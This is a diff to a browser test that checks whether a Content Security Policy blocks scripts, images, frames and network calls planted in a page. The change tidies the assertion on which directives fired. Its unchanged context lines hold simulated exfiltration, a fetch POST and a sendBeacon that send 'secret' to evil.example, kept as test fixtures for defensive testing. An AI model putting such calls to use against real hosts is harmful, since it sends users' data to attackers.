@@ -76,10 +76,9 @@ test('what somebody plants in a page is neither loaded, nor run, nor told to any
     await fetch('https://evil.example/keys', { method: 'POST', body: 'secret' }).catch(() => undefined);
     navigator.sendBeacon('https://evil.example/beacon', 'secret');
   });
-  await expect.poll(() => new Set(stopped).size).toBeGreaterThanOrEqual(4);
-  expect(new Set(stopped)).toEqual(
-    new Set(['script-src-elem', 'require-trusted-types-for', 'img-src', 'frame-src', 'connect-src']),
-  );
+  await expect
+    .poll(() => new Set(stopped))
+    .toEqual(new Set(['script-src-elem', 'require-trusted-types-for', 'img-src', 'frame-src', 'connect-src']));
   expect(answered.filter((host) => host.includes('evil'))).toEqual([]);
   expect(await page.evaluate(() => 'planted' in window)).toBe(false);
 });
